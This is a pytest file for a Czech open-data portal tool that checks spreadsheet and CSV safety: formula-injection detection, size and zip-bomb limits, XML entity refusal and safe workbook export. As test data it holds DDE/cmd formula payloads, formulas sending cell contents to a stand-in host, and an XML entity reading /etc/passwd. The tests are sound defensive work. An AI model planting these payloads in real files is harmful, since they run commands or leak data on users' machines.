"""Files for other programs and from them: no formula is let in or out unsaid, no size or form breaks the reader."""

from __future__ import annotations

import csv
import io
import json
import random
import subprocess
import sys
import zipfile
from functools import cache
from pathlib import Path

import pytest
from click.testing import CliRunner
from python_calamine import load_workbook

from macros.data.packages import LARGEST as LARGEST_TABLE
from macros.data.problems import Problem, report
from macros.entry.cli import app
from macros.files.formulas import formula, guard
from macros.files.spreadsheet import LARGEST, NoSpreadsheet, TooLarge, read_sheets
from macros.load import load_site
from macros.subjects.evaluation.assessment_form import form
from macros.subjects.evaluation.model import Evaluations
from macros.subjects.opendata.downloads import downloads
from macros.subjects.opendata.sheets import books, kept, make_sheets, workbook
from tests import portals
from tests.built import Built, words

# Formulas -----------------------------------------------------------------------------------------------

RUNS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.test?a="&A1;"klik")',
    '=WEBSERVICE("https://x.test")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("https://x.test?v="; A1); "//a")',
    "＝cmd|' /C calc'!A0",
    "＠SUM(1)",
    " =cmd|' /C calc'!A0",
    "\"=cmd|' /C calc'!A0",
    "\t=cmd|'x'!A0",
    "\u00a0=1+(2)",
    "=Sheet2!A1",
)
LIKE = (
    "=1+1",
    "=A1",
    "- bod seznamu",
    "-poznámka",
    "@mestocheb",
    "+ příspěvek",
    "＝1",
    "- pozor! Volejte",
    "--",
)
PLAIN = (
    "",
    "Cheb",
    "+420731433007",
    "+420 731 433 007",
    "-5",
    "-3,5 %",
    "+5 (2020)",
    "– pomlčka na začátku",
    "a=b",
    "info@azyl.cz",
    "„uvozovky“ a text",
    "'",
)


@pytest.mark.parametrize("text", RUNS)
def test_what_a_spreadsheet_would_run_is_an_error(text: str) -> None:
    assert formula(text) == "formula-runs"


@pytest.mark.parametrize("text", LIKE)
def test_what_only_begins_as_a_formula_is_a_warning(text: str) -> None:
    assert formula(text) == "formula-like"


@pytest.mark.parametrize("text", PLAIN)
def test_words_phones_and_numbers_are_no_formulas(text: str) -> None:
    assert formula(text) == ""


@pytest.mark.parametrize("text", (*RUNS, *LIKE))
def test_a_guarded_cell_is_no_formula(text: str) -> None:
    assert guard(text) == f"'{text}"


def test_check_looks_at_every_text_column(portal: Path) -> None:
    path = portal / "data_packages/services/data/contacts.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    cells = lines[1].split(",")
    lines[1] = ",".join([*cells[:-1], "=A1|x"])
    path.write_text("\n".join(lines), encoding="utf-8")
    found = [one for one in portals.problems_of(portal) if one.rule == "formula-runs"]
    assert [(one.row, one.column) for one in found] == [(2, "verified_by_role")]


# Spreadsheets of others ---------------------------------------------------------------------------------


@cache
def sound_form() -> bytes:
    """An empty form of the miniature site."""
    return form(load_site(portals.FIXTURE).site[Evaluations].criteria_sets["sada-priklad"])


def altered(part: str, find: str, replace: str, *more: tuple[str, str]) -> bytes:
    """The sound form with a text of one part replaced, and other parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sound_form())) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            text = old.read(name).decode()
            if name == part:
                assert find in text
                text = text.replace(find, replace, 1)
            new.writestr(name, text)
        for name, text in more:
            new.writestr(name, text)
    return out.getvalue()


def opened(raw: bytes) -> list[list[object]]:
    """Cells of the sheet with ratings."""
    return read_sheets(raw, ["Hodnocení"])[0]["Hodnocení"]


SHEET = "xl/worksheets/sheet3.xml"
END = "</sheetData>"


def far(reference: str) -> bytes:
    """The sound form with one filled cell at a far place."""
    row = "".join(filter(str.isdigit, reference))
    return altered(
        SHEET,
        END,
        f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row>{END}',
    )


def far_without_names() -> bytes:
    """Cells that do not say where they are count from the row before."""
    return altered(SHEET, END, f'<row r="1048575"/><row><c><v>1</v></c></row>{END}')


def sixteen_bits() -> bytes:
    """A sheet in UTF-16, where no search for letters would find the reference."""
    with zipfile.ZipFile(io.BytesIO(far("XFD1048576"))) as old:
        text = old.read(SHEET).decode()
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", 8) as new:
            for name in old.namelist():
                if name != SHEET:
                    new.writestr(name, old.read(name))
            new.writestr(SHEET, text.replace("UTF-8", "UTF-16").encode("utf-16"))
    return out.getvalue()


STRINGS = "<sst>" + "<si><t>a</t></si>" * 1_000_000 + "</sst>"
LARGE = {
    "XFD1048576": (lambda: far("XFD1048576"), "na listu „Hodnocení“ je vyplněná buňka až XFD1048576"),
    "ZZ100000": (lambda: far("ZZ100000"), "ZZ100000"),
    "A1048576": (lambda: far("A1048576"), "1048576"),
    "without references": (far_without_names, "1048576"),
    "UTF-16": (sixteen_bits, "XFD1048576"),
    "200 sheets": (
        lambda: altered(SHEET, END, END, *((f"xl/worksheets/s{at}.xml", "<a/>") for at in range(200))),
        "příliš mnoho listů",
    ),
    "a million shared strings": (
        lambda: altered(SHEET, END, END, ("xl/more.xml", STRINGS)),
        "rozbalený má víc než 10 MB",
    ),
    "zip bomb": (lambda: altered(SHEET, END, END + " " * 60_000_000), "rozbalený má víc než 10 MB"),
    "a large file": (lambda: sound_form() + b"0" * LARGEST, "má víc než 10 MB"),
    "many cells": (
        lambda: altered(SHEET, END, ("<row>" + "<c><v>1</v></c>" * 90 + "</row>") * 2500 + END),
        "má víc než 200000 vyplněných buněk",
    ),
}


@pytest.mark.parametrize("name", LARGE)
def test_a_spreadsheet_is_measured_before_it_is_read(name: str) -> None:
    make, said = LARGE[name]
    raw = make()
    with pytest.raises(TooLarge, match=said):
        opened(raw)


def test_measuring_stays_under_200_megabytes(tmp_path: Path) -> None:
    code = (
        "import sys\nfrom pathlib import Path\nfrom macros.files import spreadsheet\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n        spreadsheet.read_sheets(spreadsheet.read_bytes(Path(path)), ['Hodnocení'])\n"
        "    except spreadsheet.TooLarge:\n        pass\n"
        "print(Path('/proc/self/status').read_text().split('VmHWM:')[1].split()[0])"
    )
    paths = []
    for name, (make, _) in LARGE.items():
        paths.append(str(tmp_path / f"{name}.xlsx"))
        Path(paths[-1]).write_bytes(make())
    done = subprocess.run(
        [sys.executable, "-c", code, *paths], capture_output=True, text=True, check=True, cwd=portals.ROOT
    )
    assert int(done.stdout) < 200_000


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>',
        "<worksheet><sheetData>",
    ],
)
def test_entities_and_broken_parts_are_refused(text: str) -> None:
    with zipfile.ZipFile(io.BytesIO(sound_form())) as packed:
        sheet = packed.read(SHEET).decode()
    with pytest.raises(NoSpreadsheet):
        opened(altered(SHEET, sheet, text))


@pytest.mark.parametrize(
    "reference", ["xfd1048576", "ZZZZ99999999", "A00000001048576", "$XFD$1048576", "XFD"]
)
def test_a_reference_that_no_office_writes_is_not_believed(reference: str) -> None:
    """The reader understands some of them, and would keep room for 50 GB."""
    cell = f'<c r="{reference}" t="inlineStr"><is><t>x</t></is></c>'
    with pytest.raises(NoSpreadsheet):
        opened(altered(SHEET, END, f'<row r="4000">{cell}</row>{END}'))


def test_an_empty_row_at_the_end_of_a_sheet_is_no_reason_to_refuse() -> None:
    """LibreOffice writes such a row where a whole column has a format."""
    raw = altered(SHEET, END, f'<row r="1048576"><c r="A1048576" s="1"/></row>{END}')
    assert len(opened(raw)) < 100


def test_a_damaged_spreadsheet_is_said_never_a_traceback() -> None:
    chance = random.Random(20)
    raw = sound_form()
    for _ in range(300):
        spoiled = bytearray(raw)
        for _ in range(chance.randint(1, 8)):
            spoiled[chance.randrange(len(raw))] = chance.randrange(256)
        try:
            opened(bytes(spoiled[: chance.choice((len(raw), chance.randrange(len(raw))))]))
        except (NoSpreadsheet, TooLarge, KeyError):  # KeyError: the sheet has another name
            continue


# Large tables -------------------------------------------------------------------------------------------

CONTACTS = "data_packages/services/data/contacts.csv"
WRONG = "neznama-sluzba,telefon,60000,,,prvni,,Poznámka,priklad.test,1.9.2024,,\n"


def contacts_with(portal: Path, text: str) -> list[Problem]:
    """What is said of the miniature site with a text at the end of the contacts."""
    with (portal / CONTACTS).open("a", encoding="utf-8") as file:
        file.write(text)
    return portals.problems_of(portal)


def test_a_large_table_of_mistakes_is_left_when_a_person_has_seen_enough(portal: Path) -> None:
    found = contacts_with(portal, WRONG * 200_000)
    assert "file-enough" in {one.rule for one in found}
    assert len(found) < 20_000
    text = report(found)
    assert "Chyb je v souboru tolik, že dál než k tomuto řádku nekontroluji." in text
    assert len(text.splitlines()) < 700


@pytest.mark.parametrize("text", ["x,y\n", '"\n', "\n", ",,,,,,,,,,,\n", "\x00\n", "=1\n", '"a\nb",\n'])
def test_thirty_thousand_rows_of_any_nonsense_make_a_short_report(portal: Path, text: str) -> None:
    text = report(contacts_with(portal, text * 30_000))
    assert len(text.splitlines()) < 1_000


def test_mistakes_of_one_kind_are_kept_up_to_a_thousand_and_counted_beyond(portal: Path) -> None:
    found = contacts_with(portal, WRONG * 8_000)
    kind = [one for one in found if (one.column, one.rule) == ("kind", "enum")]
    assert len(kind) == 1_000
    [more] = [one for one in found if one.rule == "and-more" and dict(one.details)["of"] == "enum"]
    assert dict(more.details)["count"] == "7000"
    assert "Hodnota není v seznamu povolených – a ještě na 7\u00a0980\u00a0místech totéž." in report(found)


def test_words_about_a_large_table_are_those_about_a_small_one(portal: Path) -> None:
    """Above some thousand rows frictionless is not asked; what is said stays the same."""
    row = "azyl-priklad,phone,+420600000001,,,prvni,,,priklad.test,1.9.2024,,\n"
    small = {one for one in contacts_with(portal, row) if one.file == CONTACTS}
    numbered = len((portal / CONTACTS).read_text(encoding="utf-8").splitlines())
    filling = "".join(f"azyl-priklad,phone,+4206{at:08d},,,1,,,,2024-05-02,,\n" for at in range(6_000))
    large = {one for one in contacts_with(portal, filling) if one.file == CONTACTS and one.row == numbered}
    mine = {one for one in small if one.row == numbered}
    assert {one.rule for one in mine} >= {"type-integer", "type-date", "pattern"}
    assert mine <= large


def test_a_cell_longer_than_any_text_is_said_without_being_parsed(portal: Path) -> None:
    csv.field_size_limit(10**9)  # as frictionless does
    for size in (200_000, 30_000_000):
        found = contacts_with(portal, "x" * size + "\n")
        assert "cell-long" in {one.rule for one in found}


def test_no_more_is_shown_than_asked_for(portal: Path) -> None:
    contacts_with(portal, WRONG * 30)
    done = CliRunner().invoke(app, ["check", "--root", str(portal), "--max", "3"])
    assert done.exit_code == 1
    assert done.output.count("Jak opravit") == 3
    assert "Vypsal jsem jen 3" in done.output
    done = CliRunner().invoke(app, ["check", "--root", str(portal), "--max", "3", "--format", "json"])
    assert len(json.loads(done.output)) == 3


# Workbooks for people -----------------------------------------------------------------------------------


def workbooks(portal: Path) -> dict[str, bytes]:
    site = load_site(portal).site
    return {one.path: workbook(one) for one in books(site)}


def test_every_table_offered_to_people_is_in_a_workbook(portal: Path) -> None:
    site = load_site(portal).site
    found = {one.path: set(one.tables) for one in books(site)}
    for package in site.packages.values():
        assert found[f"data/{package.folder.name}/tabulky.xlsx"] == set(package.schemas)
    assert found["mezery/tabulky.xlsx"] == {"druhy", "kroky"}
    assert found["koordinator/ukoly.xlsx"] == {"ukoly"}


def test_a_workbook_says_what_its_table_says_and_computes_nothing(portal: Path) -> None:
    path = portal / "data_packages/services/data/providers.csv"
    text = path.read_text(encoding="utf-8").replace("Charita Příklad", "=1+1", 1)
    path.write_text(text, encoding="utf-8")
    raw = workbooks(portal)["data/services/tabulky.xlsx"]
    assert raw == workbooks(portal)["data/services/tabulky.xlsx"], "the same tables give the same bytes"
    with zipfile.ZipFile(io.BytesIO(raw)) as packed:
        parts = {name: packed.read(name).decode() for name in packed.namelist() if name.endswith(".xml")}
    assert not [name for name, xml in parts.items() if "<f>" in xml or "<hyperlink" in xml]
    rows = load_workbook(io.BytesIO(raw)).get_sheet_by_name("providers").to_python()
    assert [row[1] for row in rows if row[1] == "=1+1"]
    wanted = list(csv.reader(io.StringIO(text)))
    assert [len(row) for row in rows] == [len(row) for row in wanted]
    contacts = load_workbook(io.BytesIO(raw)).get_sheet_by_name("contacts").to_python()
    assert "+420600000001" in {row[2] for row in contacts}, "a phone keeps its plus"


def test_codes_and_postcodes_of_a_workbook_are_text_and_counts_are_numbers(portal: Path) -> None:
    """No program sorts them as numbers, drops a zero in front or shows 3.5E+04."""
    made = {one.path: workbook(one) for one in books(load_site(portal).site)}
    territory = load_workbook(io.BytesIO(made["data/territory/tabulky.xlsx"]))
    head, *rows = territory.get_sheet_by_name("municipalities").to_python()
    kinds = {name: {type(row[at]) for row in rows} for at, name in enumerate(head)}
    assert kinds["code_csu"] == kinds["orp_code_csu"] == kinds["postcode"] == {str}
    assert kinds["population"] == kinds["lat"] == {float}
    gaps = load_workbook(io.BytesIO(made["mezery/tabulky.xlsx"]))
    head, *rows = gaps.get_sheet_by_name(gaps.sheet_names[0]).to_python()
    first = dict(zip(head, rows[0], strict=True))
    assert isinstance(first["orp_code_csu"], str) and isinstance(first["municipalities"], float)


def test_a_workbook_is_published_only_while_its_tables_are_the_same(portal: Path) -> None:
    site = load_site(portal).site
    make_sheets(portal, site)
    before = {path for path, *_ in kept(portal, site, downloads(site))[0]}
    assert before == {one.path for one in books(site)}
    contacts = portal / CONTACTS
    contacts.write_text(
        contacts.read_text(encoding="utf-8").replace("+420600000001", "+420600000009"), encoding="utf-8"
    )
    changed = load_site(portal).site
    found, missing = kept(portal, changed, downloads(changed))
    now = {path for path, *_ in found}
    assert missing == len(before) - len(now) > 0
    assert "data/services/tabulky.xlsx" not in now
    assert "data/territory/tabulky.xlsx" in now


def test_a_damaged_workbook_is_not_published(portal: Path) -> None:
    site = load_site(portal).site
    make_sheets(portal, site)
    for file in (portal / ".cache/rozcestnik/sheets").iterdir():
        raw = bytearray(file.read_bytes())
        raw[len(raw) // 2] ^= 255
        file.write_bytes(raw)
    assert kept(portal, site, downloads(site)) == ([], len(list(books(site))))


def test_workbooks_hold_no_more_than_the_published_tables(portal: Path) -> None:
    """Secret addresses and small counts are blank in the CSV that a workbook is made of."""
    site = load_site(portal).site
    published = {path: raw for path, raw in downloads(site) if path.endswith(".csv")}
    for one in books(site):
        if one.path.startswith("data/"):
            assert [make() for make in one.tables.values()] == [
                raw
                for path, raw in published.items()
                if path.startswith(one.path.removesuffix("tabulky.xlsx"))
            ]


def test_the_page_of_open_data_says_which_file_is_for_whom(mini: Built) -> None:
    said = words(mini.tree("data/").xpath("//main")[0])
    assert "CSV je pro programy" in said and "nikdy vzorec" in said


def test_a_table_larger_than_any_is_not_read(portal: Path) -> None:
    """200 MB in one pair of quotes took 4 GB."""
    with (portal / CONTACTS).open("ab") as file:
        file.truncate(LARGEST_TABLE + 1)
    found = [one for one in portals.problems_of(portal) if one.file == CONTACTS]
    assert [(one.rule, one.row) for one in found] == [("file-large", 0)]
